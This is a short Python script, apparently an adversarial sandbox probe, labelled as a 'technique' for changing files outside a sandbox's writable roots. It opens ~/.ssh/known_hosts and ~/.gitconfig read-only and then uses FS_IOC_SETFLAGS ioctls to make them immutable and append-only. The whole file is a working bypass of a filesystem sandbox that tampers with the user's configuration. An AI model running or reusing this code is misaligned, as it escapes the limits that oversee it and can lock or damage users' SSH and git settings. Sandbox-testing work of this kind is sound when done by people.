# technique: FS_IOC_SETFLAGS on an O_RDONLY descriptor (chattr +i / +a) of files outside the writable roots
import fcntl, os, struct
env = dict(l.strip().split("=", 1) for l in open(".adv/world.env"))
GET, SET = 0x80086601, 0x40086602
for p in [env["HOME"] + "/.ssh/known_hosts", env["HOME"] + "/.gitconfig"]:
    try:
        fd = os.open(p, os.O_RDONLY)
        buf = bytearray(4)
        fcntl.ioctl(fd, GET, buf)
        flags = struct.unpack("i", buf)[0]
        fcntl.ioctl(fd, SET, struct.pack("i", flags | 0x10 | 0x20))  # immutable, append-only
        print(p, "chattr +ia DONE")
    except Exception as e:
        print(p, e)
